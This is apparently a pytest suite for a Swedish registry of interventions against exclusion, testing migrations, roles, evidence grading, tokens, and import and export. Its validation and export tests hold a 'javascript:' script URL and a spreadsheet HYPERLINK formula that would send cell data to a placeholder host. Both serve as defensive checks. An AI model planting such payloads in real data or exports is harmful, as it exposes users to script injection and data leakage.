"""The metodbank's library against both databases (SQLite and a real PostgreSQL started by
the tests): migrations, the real measures, validation, roles, history, grading, tokens,
import and export, and the gap map."""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path

import openpyxl
import pytest
from metodbank_helpers import BACKENDS, new_database_url
from sqlalchemy import func, inspect, select, text

from utanforskap.errors import InputError
from utanforskap.metodbank import accounts, gaps, registry, transfer
from utanforskap.metodbank.db import open_database
from utanforskap.metodbank.models import Insats
from utanforskap.metodbank.registry import Actor, Filters, Forbidden, NotFound
from utanforskap.metodbank.rules import grade
from utanforskap.metodbank.schema import FieldErrors, validate_insats, validate_utvardering

SHARED_CSV = Path("/work/shared/data/se/insatser/nationella_insatser_2024_2026.csv")
PACKAGED_CSV = Path(__file__).resolve().parents[1] / "src/utanforskap/metodbank/data/nationella_insatser_2024_2026.csv"
STAFF = Actor("granskaren", "granskare")
PUBLIC = Actor.public()


@pytest.fixture(scope="module", params=BACKENDS)
def db(request, tmp_path_factory):
    database = open_database(new_database_url(request.param, str(tmp_path_factory.mktemp("mb"))))
    yield database
    database.dispose()


def editor(kommun: str) -> Actor:
    return Actor(f"red-{uuid.uuid4().hex[:6]}", "redaktor", kommun)


def measure(**kw) -> dict:
    base = {"namn": f"Läxhjälp {uuid.uuid4().hex[:6]}", "kommuner": ["0180"], "sektorer": ["skola"], "problem": ["skolresultat"]}
    return {**base, **kw}


# ---- schema and real data -------------------------------------------------------------
def test_migrations_create_every_table_at_head(db):
    names = set(inspect(db.engine).get_table_names())
    assert {"insats", "insats_kommun", "insats_omrade", "insats_sektor", "insats_problem", "utvardering", "historik", "anvandare", "token",
            "omgang", "omgang_svar", "omgang_handelse", "inloggningsforsok", "effektskattning", "alembic_version"} <= names
    with db.engine.connect() as conn:
        assert conn.execute(text("SELECT version_num FROM alembic_version")).scalar() == "0003"


def test_the_migrations_build_exactly_the_models_schema(db):
    """Alembic's comparison of the migrated database with the models finds nothing to change
    (a model edited without a migration fails here)."""
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from utanforskap.metodbank.models import Base

    with db.engine.connect() as conn:
        diff = compare_metadata(MigrationContext.configure(conn), Base.metadata)
    assert diff == []


def test_reopening_migrates_nothing_and_seeds_once(db):
    again = open_database(db.url if "***" not in db.url else str(db.engine.url.render_as_string(hide_password=False)))
    with again.session() as s:
        assert s.scalar(select(func.count()).select_from(Insats).where(Insats.extern_id.is_not(None), Insats.beskrivning.like("Verklig insats%"))) == 17
    again.dispose()


def test_the_real_measures_are_imported_as_they_are(db):
    assert PACKAGED_CSV.read_bytes() == SHARED_CSV.read_bytes()  # the packaged copy is the shared file
    rows = list(csv.DictReader(SHARED_CSV.open(encoding="utf-8")))
    page = registry.search(db, PUBLIC, Filters(limit=500))
    real = {i.extern_id: i for i in page.rader if i.extern_id in {r["id"] for r in rows}}
    assert len(real) == len(rows) == 17
    for r in rows:
        i = real[r["id"]]
        assert i.namn == r["namn"] and i.agare_namn == r["ansvarig"] and i.niva == r["niva"]
        assert i.period_text == r["period"] and i.belopp_text == r["belopp"] and i.kallstatus == r["status_kalla"]
        assert i.kallor[0]["url"] == r["url"]
        assert i.utvarderingar == [] and i.evidensgrad == "ej-utvarderad" and i.evidensregel == "ingen-utvardering"
        assert not i.exempel and i.status == "publicerad"
    assert [k.kommun_kod for k in real["skolan-som-arena"].kommuner] == ["1490"]  # Borås stad, as the source says
    assert str(real["nationell-samordnare"].start) == "2024-04-11" and str(real["nationell-samordnare"].slut) == "2025-06-30"
    assert real["sao-jobb-unga"].kommuner == []  # the source does not name the kommun


# ---- validation -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("change", "field", "words"),
    [
        ({"kommuner": ["9999"]}, "kommuner", "okänd kommunkod '9999'"),
        ({"omraden": ["0180R999"]}, "omraden", "okänd områdeskod '0180R999'"),
        ({"omraden": ["0114R001"]}, "omraden", "ligger i kommun 0114"),
        ({"start": "2025-06-01", "slut": "2025-01-01"}, "slut", "före starten"),
        ({"kostnad_kr": -1}, "kostnad_kr", "minst 0"),
        ({"sektorer": ["rymden"]}, "sektorer", "okänd sektor 'rymden'"),
        ({"problem": ["vader"]}, "problem", "okänd problemvariabel"),
        ({"namn": ""}, "namn", "minst 1 tecken"),
        ({"kallor": [{"titel": "x", "url": "javascript:alert(1)"}]}, "kallor", "https://"),
    ],
)
def test_bad_measures_are_refused_in_swedish(change, field, words):
    with pytest.raises(FieldErrors) as err:
        validate_insats(measure(**change))
    assert any(f == field and words in m for f, m in err.value.errors), err.value.errors


def test_every_error_is_reported_at_once():
    with pytest.raises(FieldErrors) as err:
        validate_insats(measure(kostnad_kr=-1, start="2025-06-01", slut="2025-01-01", kommuner=["9999"]))
    assert {f for f, _ in err.value.errors} == {"kostnad_kr", "slut", "kommuner"}
    with pytest.raises(FieldErrors, match="inte ett datum; skriv ÅÅÅÅ-MM-DD"):
        validate_insats(measure(start="1 maj"))


def test_bad_evaluations_are_refused():
    with pytest.raises(FieldErrors, match="övre gräns är lägre"):
        validate_utvardering({"design": "rct", "ki_lag": 0.5, "ki_hog": 0.1})
    with pytest.raises(FieldErrors, match="okänd design"):
        validate_utvardering({"design": "magkänsla"})


# ---- roles ------------------------------------------------------------------------------
def test_editor_creates_only_in_own_kommun_and_nobody_else_reads_the_draft(db):
    a, b = editor("0180"), editor("1480")
    new = registry.create(db, a, validate_insats(measure()))
    assert registry.get(db, a, new).ansvarig_kommun == "0180"
    for other in (PUBLIC, b):
        with pytest.raises(NotFound):
            registry.get(db, other, new)
        assert new not in [i.id for i in registry.search(db, other, Filters(limit=500)).rader]
    assert registry.get(db, STAFF, new).status == "utkast"
    with pytest.raises(Forbidden, match="kommun 1480"):
        registry.create(db, a, validate_insats(measure(kommuner=["1480"])))
    with pytest.raises(Forbidden):
        registry.create(db, PUBLIC, validate_insats(measure()))


def test_editor_of_kommun_a_cannot_edit_kommun_b(db):
    a, b = editor("0180"), editor("1480")
    mine = registry.create(db, b, validate_insats(measure(kommuner=["1480"])))
    with pytest.raises(NotFound):  # a draft of B is invisible to A: the same answer as no measure
        registry.update(db, a, mine, validate_insats(measure()))
    registry.set_status(db, b, mine, "inskickad")
    registry.set_status(db, STAFF, mine, "publicerad")
    with pytest.raises(Forbidden):  # published: A may read it but not change it
        registry.update(db, a, mine, validate_insats(measure()))
    with pytest.raises(Forbidden):
        registry.set_status(db, a, mine, "utkast")
    assert registry.get(db, PUBLIC, mine).namn.startswith("Läxhjälp")


def test_status_flow_and_full_history(db):
    a = editor("0180")
    new = registry.create(db, a, validate_insats(measure()))
    registry.update(db, a, new, validate_insats(measure(namn="Nytt namn", kostnad_kr=1000)))
    registry.set_status(db, a, new, "inskickad")
    with pytest.raises(Forbidden):
        registry.update(db, a, new, validate_insats(measure()))  # submitted: locked for the editor
    with pytest.raises(Forbidden):
        registry.set_status(db, a, new, "publicerad")
    registry.set_status(db, STAFF, new, "granskad")
    registry.set_status(db, STAFF, new, "publicerad")
    with pytest.raises(InputError, match="kan inte få status"):
        registry.set_status(db, STAFF, new, "inskickad")
    hist = registry.history(db, STAFF, new)
    assert [h.handling for h in hist] == ["skapad", "ändrad", "inskickad", "granskad", "publicerad"]
    assert hist[1].andringar["namn"][1] == "Nytt namn" and hist[1].andringar["kostnad_kr"] == [None, 1000]
    assert all(h.vem and h.tid for h in hist)


def test_guessing_ids_answers_not_found(db):
    with pytest.raises(NotFound):
        registry.get(db, PUBLIC, 10**9)
    with pytest.raises(NotFound):
        registry.get(db, PUBLIC, -1)


# ---- evidence grading -----------------------------------------------------------------
def _ev(**kw):
    return validate_utvardering({"design": "rct", "resultat": "gynnsam", **kw})


def test_grades_follow_the_rules_file():
    assert grade([]).regel == "ingen-utvardering"
    assert grade([_ev(design="beskrivande")]).grad == "uppfoljd"
    assert grade([_ev()]).regel == "lovande-rct"
    assert grade([_ev(ki_lag=-0.1, ki_hog=0.4, effekt=0.1)]).regel == "utvarderad-utan-effekt"  # interval spans zero
    assert grade([_ev(design="difference-in-differences")]).regel == "lovande-kvasi"
    assert grade([_ev(), _ev(design="kvasiexperiment")]).regel == "modell"
    assert grade([_ev(oberoende="oberoende", uppfoljning_manader=24), _ev()]).regel == "modell-plus"
    assert grade([_ev(), _ev(resultat="ogynnsam")]).regel == "skadlig"


def test_adding_an_evaluation_regrades_and_is_logged(db):
    new = registry.create(db, STAFF, validate_insats(measure()))
    registry.add_evaluation(db, STAFF, new, _ev(utvarderare="IFAU", oberoende="oberoende", effekt=0.2, ki_lag=0.1, ki_hog=0.3))
    i = registry.get(db, STAFF, new)
    assert (i.evidensgrad, i.evidensregel) == ("lovande", "lovande-rct")
    assert registry.history(db, STAFF, new)[-1].andringar["evidensgrad"] == ["ej-utvarderad", "lovande"]


# ---- accounts and tokens -------------------------------------------------------------------
@pytest.mark.slow
def test_accounts_tokens_and_blocking(db):
    name = f"u{uuid.uuid4().hex[:8]}"
    with pytest.raises(InputError, match="kommun"):
        accounts.create_user(db, name, "redaktor", None, "x" * 12)
    with pytest.raises(InputError, match="för kort"):
        accounts.create_user(db, name, "granskare", None, "kort")
    user = accounts.create_user(db, name, "redaktor", "0180", "ett-langt-losenord")
    with pytest.raises(InputError, match="finns redan"):
        accounts.create_user(db, name, "granskare", None, "ett-langt-losenord")
    with pytest.raises(accounts.LoginFailed):
        accounts.login(db, name, "fel-losenord-123")
    assert accounts.login(db, name, "ett-langt-losenord")[0].id == user.id
    token_id, token = accounts.create_token(db, name)
    with db.session() as s:  # only the hash is stored
        assert token not in json.dumps([list(r) for r in s.execute(text("SELECT * FROM token")).all()], default=str)
    actor = accounts.token_actor(db, token)
    assert (actor.roll, actor.kommun_kod) == ("redaktor", "0180")
    accounts.revoke_token(db, token_id)
    assert accounts.token_actor(db, token) is None
    _, second = accounts.create_token(db, name)
    accounts.block_user(db, name)
    assert accounts.token_actor(db, second) is None
    with pytest.raises(accounts.LoginFailed):
        accounts.login(db, name, "ett-langt-losenord")


def test_login_limiter_is_shared_by_every_process(db):
    """Two limiters over one database stand for two worker processes: failures counted by one
    block the other."""
    one, two = (accounts.LoginLimiter(db, attempts=3, window=60, address_attempts=4) for _ in range(2))
    a, b, ip = (f"{k}:{uuid.uuid4().hex[:8]}" for k in ("namn", "namn", "ip"))
    for n in range(3):
        assert not two.blocked(a)
        (one if n % 2 else two).failed(a, ip)
    assert one.blocked(a) and two.blocked(a) and not two.blocked(b, ip)
    one.failed(b, ip)
    assert two.blocked(ip) and not two.blocked(b)
    one.succeeded(a)
    assert not two.blocked(a)
    old = accounts.LoginLimiter(db, attempts=1, window=0.0)  # a window that has passed counts nothing
    assert not old.blocked(b)


# ---- import and export -----------------------------------------------------------------
def _csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def _count(db) -> int:
    with db.session() as s:
        return s.scalar(select(func.count()).select_from(Insats))


def test_import_is_all_or_nothing(db, tmp_path):
    tag = uuid.uuid4().hex[:6]
    header = ["id", "namn", "kommuner", "omraden", "sektorer", "problem", "start", "slut", "kostnad_kr"]
    before = _count(db)
    bad = _csv(tmp_path / "bad.csv", header, [
        [f"a-{tag}", "Bra rad", "0180", "0180R024", "skola", "skolresultat", "2025-01-01", "", "1000"],
        [f"b-{tag}", "Slut före start", "0180", "", "skola", "", "2025-05-01", "2025-01-01", ""],
        [f"c-{tag}", "Negativ kostnad", "0180", "", "", "", "", "", "-3"],
        [f"d-{tag}", "Okänd kommun", "9999", "", "", "", "", "", ""],
        [f"a-{tag}", "Dubblett", "0180", "", "", "", "", "", ""],
    ])
    with pytest.raises(InputError) as err:
        transfer.import_file(db, STAFF, bad)
    msg = str(err.value)
    assert "inget är importerat" in msg and "rad 3" in msg and "rad 4" in msg and "rad 5" in msg and "rad 6" in msg and "dubblett" in msg
    assert _count(db) == before
    wrong = _csv(tmp_path / "wrong.csv", ["namn", "färg"], [["x", "blå"]])
    with pytest.raises(InputError, match="fel kolumner.*'färg'"):
        transfer.import_file(db, STAFF, wrong)
    good = _csv(tmp_path / "good.csv", header, [[f"a-{tag}", "Bra rad", "0180", "0180R024", "skola", "skolresultat", "2025-01-01", "", "1000"]])
    assert transfer.import_file(db, STAFF, good) == 1
    with pytest.raises(InputError, match="finns redan"):
        transfer.import_file(db, STAFF, good)
    assert _count(db) == before + 1
    a = editor("1480")
    with pytest.raises(InputError, match="kommun 0180"):  # an editor's import is held to their kommun
        transfer.import_file(db, a, _csv(tmp_path / "other.csv", ["namn", "kommuner"], [["Annans", "0180"]]))


def test_template_roundtrip_xlsx(db, tmp_path):
    import openpyxl

    path = transfer.write_template(tmp_path / "mall.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb["insatser"]
    tag = uuid.uuid4().hex[:6]
    ws.append([f"x-{tag}", "Sommarjobb för unga", "", "kommunal", "kommun", "Stockholms stad", "0180", "0180R024", "16–19 år", 16, 19, "alla",
               "arbetsmarknad", "arbetsmarknadsetablering", "2025-06-01", "2025-08-31", 120, None, 500000, "kommunens budget", "", "Arbetsförmedlingen",
               "andel i arbete efter ett år", "Stockholms stad 2025", "https://start.stockholm", ""])
    wb.save(path)
    assert transfer.import_file(db, STAFF, path) == 1
    rec = registry.record(registry.search(db, STAFF, Filters(q="sommarjobb", limit=500)).rader[0])
    assert rec["alder_fran"] == 16 and rec["samverkan"][0]["namn"] == "Arbetsförmedlingen" and rec["kallor"][0]["url"] == "https://start.stockholm"


def test_export_has_only_published_real_measures(db, tmp_path):
    draft = registry.create(db, STAFF, validate_insats(measure(namn=f"Utkast {uuid.uuid4().hex[:6]}")))
    demo = registry.create(db, STAFF, validate_insats(measure(namn="EXEMPEL-insats", exempel=True)), status="publicerad")
    for suffix in ("json", "csv", "xlsx"):
        n = transfer.export(db, tmp_path / f"ut.{suffix}")
        assert n >= 17
    data = json.loads((tmp_path / "ut.json").read_text())
    ids = {r["id"] for r in data["insatser"]}
    assert draft not in ids and demo not in ids and all(r["status"] == "publicerad" and not r["exempel"] for r in data["insatser"])
    assert "EXEMPEL" not in (tmp_path / "ut.csv").read_text()


def test_export_never_hands_a_spreadsheet_a_formula(db, tmp_path):
    """A measure's free text that starts like a formula stays text in the CSV and the xlsx."""
    evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klicka\")"
    new = registry.create(db, STAFF, validate_insats(measure(beskrivning=evil)), status="publicerad")
    transfer.export(db, tmp_path / "ut.csv")
    transfer.export(db, tmp_path / "ut.xlsx")
    row = next(r for r in csv.DictReader(io.StringIO((tmp_path / "ut.csv").read_text())) if r["id"] == str(new))
    assert row["beskrivning"] == "'" + evil
    sheet = openpyxl.load_workbook(tmp_path / "ut.xlsx").active
    cells = [c for c in sheet.iter_rows(values_only=True) if c[0] == new]
    assert cells and cells[0][transfer.FLAT.index("beskrivning")] == evil  # a string cell, not a formula
    assert not any(isinstance(c.value, str) and c.data_type == "f" for r in sheet.iter_rows() for c in r)


# ---- gap map ---------------------------------------------------------------------------
def test_gap_map_finds_measures_and_gaps(db):
    from utanforskap.results import karta

    result = karta.compute()
    before = gaps.area_gaps(db, result)
    area = before.filter(before["faktor"] == "skolresultat").row(0, named=True)
    new = registry.create(db, STAFF, validate_insats(measure(kommuner=[area["kommun_kod"]], omraden=[area["regso_kod"]])), status="publicerad")
    after = gaps.area_gaps(db, result)
    row = after.filter((after["regso_kod"] == area["regso_kod"]) & (after["faktor"] == "skolresultat")).row(0, named=True)
    assert new in row["i_omradet"] and not row["lucka"]
    assert after.height == before.height == gaps.flagged(result).height
    assert int(gaps.summarize(after, None)["luckor"][0]) < int(gaps.summarize(before, None)["luckor"][0]) or not area["lucka"]
    m = gaps.matrix(db)
    cell = m.filter((m["problem"] == "skolresultat") & (m["sektor"] == "skola")).row(0, named=True)
    assert cell["insatser"] >= 1


def test_gap_export(db, tmp_path):
    import polars as pl

    from utanforskap.results import karta

    n = gaps.export_gaps(db, karta.compute(), tmp_path / "luckor.csv")
    df = pl.read_csv(tmp_path / "luckor.csv", schema_overrides={"kommun_kod": pl.String, "lan_kod": pl.String})
    assert df.height == n > 0 and {"regso_kod", "faktor", "faktor_namn", "i_omradet", "lucka", "metod"} <= set(df.columns)


def test_migrations_go_down_to_nothing_and_up_again(tmp_path):
    from importlib import resources

    from alembic import command
    from alembic.config import Config

    database = open_database(f"sqlite:///{tmp_path / 'ned-upp.sqlite'}")
    cfg = Config()
    cfg.set_main_option("script_location", str(resources.files("utanforskap.metodbank").joinpath("migrations")))
    with database.engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.downgrade(cfg, "base")
    assert set(inspect(database.engine).get_table_names()) == {"alembic_version"}
    database.dispose()
    again = open_database(f"sqlite:///{tmp_path / 'ned-upp.sqlite'}")  # migrated and seeded anew
    assert registry.search(again, PUBLIC, Filters()).totalt == 17
    again.dispose()


def test_records_read_without_objects_equal_the_objects_records(db):
    """search_records and get_record (the list, the API and the measure page) give exactly what
    record() gives for the same measures, for every reader and filter."""
    data = measure(sektorer=["skola", "fritid"], problem=["skolresultat", "kriminalitet"], kommuner=["0180", "0114"], niva="regional", omraden=["0180R024"],
                   samverkan=[{"namn": "Polisen"}])
    mid = registry.create(db, STAFF, validate_insats(data))
    evaluation = {"design": "rct", "utvarderare": "IFAU", "oberoende": "oberoende", "resultat": "gynnsam", "effekt": 0.2, "ki_lag": 0.1, "ki_hog": 0.3}
    registry.add_evaluation(db, STAFF, mid, validate_utvardering(evaluation))
    for actor in (PUBLIC, STAFF, editor("0180")):
        for f in (Filters(), Filters(kommun="0180"), Filters(problem="skolresultat", sektor="skola"), Filters(q="läxhjälp"), Filters(offset=3, limit=5)):
            page = registry.search(db, actor, f)
            total, records = registry.search_records(db, actor, f)
            assert total == page.totalt and records == [registry.record(i) for i in page.rader]
    rec, hist = registry.get_record(db, STAFF, mid)
    assert rec == registry.record(registry.get(db, STAFF, mid)) and rec["utvarderingar"][0]["utvarderare"] == "IFAU" and hist
    with pytest.raises(NotFound):
        registry.get_record(db, PUBLIC, mid)  # a draft is not the public's


def test_analyze_gives_the_planner_statistics(db):
    """What a large import runs afterwards (db.analyze): the planner's statistics exist for
    the measures' tables, on either database."""
    from utanforskap.metodbank.db import analyze

    analyze(db)
    with db.engine.connect() as conn:
        if db.is_sqlite:
            tables = {r[0] for r in conn.execute(text("SELECT tbl FROM sqlite_stat1"))}
        else:
            tables = {r[0] for r in conn.execute(text("SELECT tablename FROM pg_stats WHERE schemaname = 'public'"))}
    assert {"insats", "insats_kommun", "insats_problem"} <= tables
